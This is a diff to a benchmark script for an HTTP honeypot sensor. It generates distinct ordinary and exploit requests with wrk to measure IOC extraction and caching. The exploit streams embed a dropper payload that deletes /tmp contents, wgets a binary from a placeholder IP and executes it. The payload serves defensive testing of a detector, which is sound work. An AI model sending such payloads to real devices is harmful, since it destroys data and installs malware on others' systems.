@@ -7,6 +7,10 @@ recorded, one without a labeler; ``wrk -t1 -c64`` on core 1 drives each in alter
 
 - ordinary requests and dropper exploits, every request of the whole run distinct (a counter in
   the target that no round restarts), so the result cache for repeated requests never answers;
+  the exploit's counter is inside its payload (the dropper's file name), so no memo of a payload
+  part answers either;
+- the same exploit with the counter in a parameter of its own (a bot's cache-buster): the
+  payload's parts repeat and IOC extraction's memos answer them, so it is reported apart;
 - the wild capture (../shared/data/wild-http) replayed as it arrived: each distinct request
   repeated by its count, shuffled, so about 97 % are repeats, as in real honeypot traffic. This
   one is reported apart: the result cache answers most of it.
@@ -39,15 +43,23 @@ from bench_http import best, cpu_seconds, free_port, need, pinned_sensor  # noqa
 from http_sensor_server import CountingSink  # noqa: E402
 
 WILD = HERE.parents[1] / "shared" / "data" / "wild-http" / "requests.jsonl"
+# stream -> the target before and after the counter
 PATHS = {
-    "ordinary": "/index.html?page=",
-    "exploit": "/shell?cd+/tmp;rm+-rf+*;wget+http://198.51.100.7/jaws;sh+/tmp/jaws&n=",
+    "ordinary requests": ("/index.html?page=", ""),
+    # the counter inside the payload (the dropper's file name): no memo of a payload part answers
+    "exploit requests": ("/shell?cd+/tmp;rm+-rf+*;wget+http://198.51.100.7/jaws", ";sh+/tmp/jaws"),
+    # a cache-busting parameter beside a payload that repeats: IOC extraction's memos of repeated
+    # parts (download commands, URLs) answer, so this one is reported apart
+    "exploit requests, counter in a parameter of its own (memos answer the repeated payload)": (
+        "/shell?cd+/tmp;rm+-rf+*;wget+http://198.51.100.7/jaws;sh+/tmp/jaws&n=",
+        "",
+    ),
 }
 DISTINCT_LUA = """
 local n = {first}
 request = function()
   n = n + 1
-  return wrk.format("GET", "{path}" .. n)
+  return wrk.format("GET", "{before}" .. n .. "{after}")
 end
 """
 # the wild stream: a table of distinct requests and the order they arrive in
@@ -104,8 +116,11 @@ def sensor(detect: bool) -> contextlib.AbstractContextManager[tuple[subprocess.P
 def streams(quick: bool) -> dict[str, tuple[str, dict[str, object]]]:
     """name -> (wrk Lua script template, what it sends)."""
     out = {
-        f"{name} requests": (DISTINCT_LUA.replace("{path}", path), {"path": path, "requests": "every one distinct"})
-        for name, path in PATHS.items()
+        name: (
+            DISTINCT_LUA.replace("{before}", before).replace("{after}", after),
+            {"path": f"{before}<counter>{after}", "requests": "every one distinct"},
+        )
+        for name, (before, after) in PATHS.items()
     }
     wild = wild_stream(30_000 if quick else 200_000)
     if wild is not None:
